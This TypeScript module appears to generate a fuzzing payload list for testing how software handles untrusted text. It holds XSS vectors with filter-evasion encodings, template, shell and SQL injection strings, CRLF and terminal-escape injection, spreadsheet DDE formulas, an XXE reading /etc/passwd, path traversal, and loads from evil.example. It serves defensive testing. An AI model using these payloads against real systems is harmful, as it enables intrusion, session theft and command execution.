/**
 * 300 texts that want to be more than text: on a page, in a script, a terminal, a table or a stream. A rule makes them, not
 * a dice: each way out of a context with each thing to do there, each spelling of some of these, each mark of Unicode at
 * each place, and what comes in lists.
 */

const ALERT = 'alert(document.domain)';
const SCRIPT = `<script>${ALERT}</script>`;
const IMAGE = `<img src=x onerror=${ALERT}>`;

/** What ends the place where a text may stand. */
const WAYS_OUT: readonly string[] = [
  ...['', '">', "'>", '`>', '</title>', '</pre>', '</textarea>', '</select></form>'],
  ...['</span></td></tr></table>', '-->', ']]>', '</style>', '</script>'],
];

/** What is done once outside. */
const DEEDS: readonly string[] = [
  SCRIPT,
  IMAGE,
  `<svg onload=${ALERT}>`,
  `<iframe srcdoc="${SCRIPT}"></iframe>`,
  `<a href="javascript:${ALERT}">x</a>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ALERT}>`,
  `<noscript><p title="</noscript>${IMAGE}">`,
];

const MARKUP: readonly string[] = [
  `<ScRiPt\n>${ALERT}</sCrIpT\t>`,
  '<script src=//evil.example/x.js></script>',
  `<script type=module>${ALERT}</script>`,
  `<img src="x" onerror="${ALERT}"`,
  `<img/src=x/onerror=${ALERT}>`,
  '<img src=http://evil.example/pixel>',
  `<svg>${SCRIPT}</svg>`,
  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${ALERT}"><text>x</text></a></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${IMAGE}</body></foreignObject></svg>`,
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  `<svg><set attributeName=onmouseover to=${ALERT}>`,
  `<body onload=${ALERT}>`,
  `<iframe src="javascript:${ALERT}"></iframe>`,
  `<object data="javascript:${ALERT}"></object>`,
  `<embed src="javascript:${ALERT}">`,
  `" href="javascript:${ALERT}`,
  `" onmouseover="${ALERT}" x="`,
  `' onfocus='${ALERT}' autofocus x='`,
  `\` onclick=\`${ALERT}`,
  `x onpointerenter=${ALERT} style=position:fixed;inset:0`,
  `<input autofocus onfocus=${ALERT}>`,
  `<details open ontoggle=${ALERT}>`,
  `<video><source onerror=${ALERT}>`,
  `<marquee onstart=${ALERT}>`,
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=modulepreload href=//evil.example/x.js>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
  '<form action=//evil.example><button>x',
  `<button formaction="javascript:${ALERT}">x</button>`,
  `<template>${SCRIPT}</template>`,
  `<template shadowrootmode=open>${SCRIPT}</template>`,
  '<a name=player id=main><input name=attributes>',
  ...['<plaintext>', '<textarea>', '<xmp>', '<select>', '<!--', '<![CDATA[', '<!doctype html>'],
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  ...['</main>', '</body></html>', '<', '&', '&lt', '<a', '<a b="', '<//', '<%00script>'],
];

/** How the same is written so that a filter does not know it. */
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => each(text, (code) => `&#${code};`),
  (text) => each(text, (code) => `&#x${hex(code, 6)};`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => each(text, (code) => `%${hex(code, 2)}`),
  (text) => each(text, (code) => `%25${hex(code, 2)}`),
  (text) => each(text, (code) => `\\u${hex(code, 4)}`),
  (text) => each(text, (code) => `\\x${hex(code, 2)}`),
  (text) => each(text, (code) => `\\${hex(code, 6)} `),
  // Overlong UTF-8, as a decoder of Latin-1 has it, and escaped.
  (text) => text.replaceAll('<', '\u00c0\u00bc').replaceAll('>', '\u00e0\u0080\u00be'),
  (text) => text.replaceAll('<', '%c0%bc').replaceAll('>', '%f0%80%80%be'),
  (text) => `+ADw-${text.slice(1, -1)}+AD4-`,
  (text) => each(text, (code) => String.fromCharCode(code + 0xfee0)),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => [...text].join('\u0000'),
  (text) => text.replace(/[a-z]+/g, (word) => [...word].join('\t')),
];

/** What cannot be seen, or moves or hides what stands beside it. */
const MARKS: readonly string[] = [
  ...['\u0000', '\u0008', '\u007f', '\u0085', '\u00a0', '\u00ad', '\u034f', '\u061c'],
  ...['\u180e', '\u200b', '\u200d', '\u200f', '\u2028', '\u2029', '\u202e', '\u2066'],
  ...['\u2069', '\u3164', '\ufe0f', '\ufeff', '\uffff', '\ud800', '\udfff', '\u{e0041}'],
  ...['\u0300'.repeat(400), '\ue000', '\u{1f468}\u200d\u{1f469}', '\r', '\r\n', '\u2800'],
];

/** Addresses that do something, or lead away. */
const ADDRESSES: readonly string[] = [
  ...['', '\u0001', ' ', '\u00a0'].map((before) => `${before}javascript:${ALERT}`),
  ...[`JaVaScRiPt:${ALERT}`, `java\tscript:${ALERT}`, `java\nscript:${ALERT}`],
  ...[`javascript://%0a${ALERT}`, `vbscript:${ALERT}`, `data:text/html,${SCRIPT}`],
  ...[`data:image/svg+xml,<svg onload=${ALERT}>`, 'data:;base64,PHNjcmlwdD4=', 'blob:x'],
  ...['file:///etc/passwd', '//evil.example', '\\\\evil.example', '/\\evil.example'],
  ...['http:/\\evil.example', 'https://127.0.0.1@evil.example', '../../../../etc/passwd'],
  ...['..%2f..%2fetc', '?since=1', '#main', 'mailto:a@b?cc=c%0d%0aBcc:d'],
];

/** For what reads a text after the page: templates, scripts, headers, streams, terminals, tables, shells. */
const READERS: readonly string[] = [
  ...['{{7*7}}', '{{constructor.constructor("alert(1)")()}}', `\${${ALERT}}`, '<%= 7*7 %>'],
  ...['{% include "x" %}', '#{7*7}', '[[7*7]]', '*{7*7}', '$(id)', '`id`', '; id #', "' OR 1=1 --"],
  ...['__proto__', 'constructor', 'toString', '{"__proto__":{"x":1}}', '"},{"id":"x'],
  ...["';alert(1)//", '";alert(1)//', '*/alert(1)/*', '\\";alert(1)//', '$&$`$1'],
  ...['x\r\nSet-Cookie: a=b', 'x\r\n\r\n<script>', 'x\n\nevent: finding\ndata: {}\n\n'],
  ...['\ndata: x', '\nid: 999', ': comment', '\nretry: 1'],
  ...['\u001b[31m', '\u001b]0;title\u0007', '\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007'],
  ...['\u001b]52;c;ZXZpbA==\u0007', '\u001bP$q"p\u001b\\', '\u009b31m', '\u001b[2J\u001b[H'],
  ...['\u001b[?1049h', '\b\b\b\b', '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'],
  ...['<?php system("id") ?>', '{{{x}}}', '%n%s%x', '{"a":NaN}\u0000'],
  ...['=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", '"=1",2', 'x"\n"=1'],
];

const LONG: readonly string[] = [
  `<${'a'.repeat(3000)} ${'x='.repeat(500)}>`,
  'x'.repeat(5000),
  '<b>'.repeat(600),
  '&amp;'.repeat(600),
  '"'.repeat(2000),
  '\n'.repeat(500),
];

export const PAYLOADS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => DEEDS.map((deed) => `${out}${deed}`)),
  ...MARKUP,
  ...SPELLINGS.flatMap((spelt) => [SCRIPT, IMAGE].map(spelt)),
  ...MARKS.map((mark) => `${mark}<${mark}script>${mark}${ALERT}${mark}`),
  ...ADDRESSES,
  ...READERS,
  ...LONG,
];

function each(text: string, spelt: (code: number) => string): string {
  return [...text].map((character) => spelt(character.charCodeAt(0))).join('');
}

function hex(code: number, digits: number): string {
  return code.toString(16).padStart(digits, '0');
}

/** Just as long and as much in parts, but nothing to it. */
export function harmless(payload: string): string {
  return payload.replace(/[^\n:]/g, 'x');
}
